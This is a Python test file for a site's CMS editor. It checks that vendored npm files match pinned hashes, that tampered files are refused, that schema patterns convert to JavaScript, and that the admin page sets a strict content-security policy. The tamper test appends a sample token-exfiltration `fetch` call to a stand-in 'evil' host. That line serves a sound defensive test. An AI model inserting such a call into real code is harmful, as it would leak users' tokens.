"""The form editor's vendored files (pinned, identical to npm's, refused when changed), its page
and its widgets' patterns."""

from __future__ import annotations

import hashlib
import json
import os
import re
from html import unescape
from pathlib import Path

import pytest

from legacy_archive.core.editors import admin_page, vendored, widgets
from support.paths import REPO

NODE_MODULES = REPO / "node_modules"


def test_every_vendored_file_is_the_npm_packages_file_at_the_pinned_version() -> None:
    lock = json.loads((REPO / "package-lock.json").read_text(encoding="utf-8"))
    manifest = json.loads((REPO / "package.json").read_text(encoding="utf-8"))
    pinned = manifest.get("dependencies", {}) | manifest.get("devDependencies", {})
    if not (NODE_MODULES / vendored.CMS_PACKAGE).is_dir():
        if os.environ.get("CI") == "true":
            pytest.fail("`npm ci` must run before the tests on CI")
        pytest.skip("needs `npm ci`")
    vendor = Path(str(vendored.files("legacy_archive.core.editors").joinpath("vendor")))
    for item in vendored.VENDORED:
        assert pinned[item.package] == item.version, item.package
        assert lock["packages"][f"node_modules/{item.package}"]["version"] == item.version
        npm_file = (NODE_MODULES / item.package / item.path).read_bytes()
        ours = (vendor / item.name).read_bytes()
        assert ours == npm_file, f"{item.name} differs from {item.package}/{item.path}"
        assert hashlib.sha256(ours).hexdigest() == item.sha256
        licence = (vendor / item.licence).read_text(encoding="utf-8")
        assert licence.strip(), item.licence
    assert pinned[vendored.CMS_PACKAGE] == vendored.CMS_VERSION


def test_admin_files_are_the_checked_files_and_their_licences() -> None:
    admin = vendored.admin_files()
    names = {item.name for item in vendored.VENDORED} | {item.licence for item in vendored.VENDORED}
    assert set(admin) == names | {vendored.FONTS_CSS, vendored.ZOOM_JS}
    for item in vendored.VENDORED:
        assert item.name in admin[vendored.FONTS_CSS].decode() or item.name == vendored.CMS_FILE


def test_a_changed_file_is_refused_with_every_problem_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    vendor = tmp_path / "vendor"
    source = Path(str(vendored.files("legacy_archive.core.editors").joinpath("vendor")))
    vendor.mkdir()
    for path in source.iterdir():
        (vendor / path.name).write_bytes(path.read_bytes())
    bundle = vendor / vendored.CMS_FILE
    bundle.write_bytes(bundle.read_bytes() + b"\nfetch('https://evil.example/?t='+token)")
    (vendor / "noto-mono-latin-400-normal.woff2").write_bytes(b"not a font")
    monkeypatch.setattr(vendored, "files", lambda _package: tmp_path)
    with pytest.raises(vendored.BundleError) as caught:
        vendored.admin_files()
    message = str(caught.value)
    assert f"{vendored.CMS_FILE}: SHA-256 is " in message
    assert f"@sveltia/cms {vendored.CMS_VERSION}" in message
    assert "noto-mono-latin-400-normal.woff2: SHA-256 is " in message
    bundle.unlink()
    with pytest.raises(
        vendored.BundleError, match=rf"^{re.escape(vendored.CMS_FILE)}: cannot be read"
    ):
        vendored.admin_files()


@pytest.mark.parametrize(
    ("pattern", "matches", "refuses"),
    [
        ("(?i)\\.(png|jpe?g|webp)$", ["a.PNG", "b.Jpeg", "c.webp"], ["d.gif", "e.png.txt"]),
        ("(?i)\\.vtt$", ["captions.VTT"], ["captions.srt"]),
        ("^/[^\\s]*$", ["/old/page.html"], ["old", "/a b"]),
        ("(?i)^\\d+[a-c]x$", ["12aX", "3cx"], ["12dx"]),
    ],
)
def test_schema_patterns_become_javascript_ones_that_accept_the_same(
    pattern: str, matches: list[str], refuses: list[str]
) -> None:
    converted = widgets.js_pattern(pattern)
    assert "(?i)" not in converted
    for text in matches:
        assert re.search(converted, text), (converted, text)
        assert re.search(pattern, text)
    for text in refuses:
        assert not re.search(converted, text), (converted, text)


def test_admin_page_escapes_its_values_and_allows_only_github() -> None:
    html = admin_page.admin_page('<b>"Archive"</b>', "sha384-abc", auth_url="https://auth.example")
    assert "&lt;b&gt;&#34;Archive&#34;&lt;/b&gt;" in html
    assert 'src="sveltia-cms.js" integrity="sha384-abc"' in html
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', html)
    assert policy is not None
    text = unescape(policy.group(1))
    directives = dict(part.strip().split(" ", 1) for part in text.split(";"))
    assert directives["script-src"] == "'self'"
    assert directives["connect-src"] == "'self' https://api.github.com https://auth.example"
    assert "eval" not in text


@pytest.mark.parametrize(
    ("options", "repo_url", "variable", "serving", "expected"),
    [
        ({"cms_repo": "org/forms"}, "https://github.com/org/site", "org/env", False, "org/forms"),
        ({}, "https://github.com/org/site.git", "org/env", False, "org/site"),
        ({}, "", "org/deployed", False, "org/deployed"),
        ({}, "", "not a repository", False, ""),
        ({}, "https://gitlab.com/org/site", "", False, ""),
        ({}, "", "", True, "local/learning"),
    ],
)
def test_the_repository_the_forms_save_to(
    monkeypatch: pytest.MonkeyPatch,
    options: dict[str, str],
    repo_url: str,
    variable: str,
    serving: bool,
    expected: str,
) -> None:
    from types import SimpleNamespace

    from legacy_archive.mkdocs_plugins.cms.plugin import REPOSITORY_VARIABLE, CmsPlugin

    monkeypatch.setenv(REPOSITORY_VARIABLE, variable)
    monkeypatch.setenv("GITHUB_REPOSITORY", "org/every-actions-run")
    plugin = CmsPlugin()
    errors, warnings = plugin.load_config(options)
    assert not errors and not warnings
    plugin.serving = serving
    config = SimpleNamespace(
        repo_url=repo_url, config_file_path=str(REPO / "tests/fixtures/learning/mkdocs.yml")
    )
    assert plugin._repo(config) == expected  # type: ignore[arg-type]


def test_the_old_script_options_say_what_replaced_them() -> None:
    from legacy_archive.mkdocs_plugins.cms.plugin import CmsPlugin

    plugin = CmsPlugin()
    errors, warnings = plugin.load_config(
        {"cms_script": "https://unpkg.com/decap-cms/dist/decap-cms.js"}
    )
    assert not errors
    assert [name for name, _ in warnings] == ["cms_script"]
    assert "served from the site" in warnings[0][1]
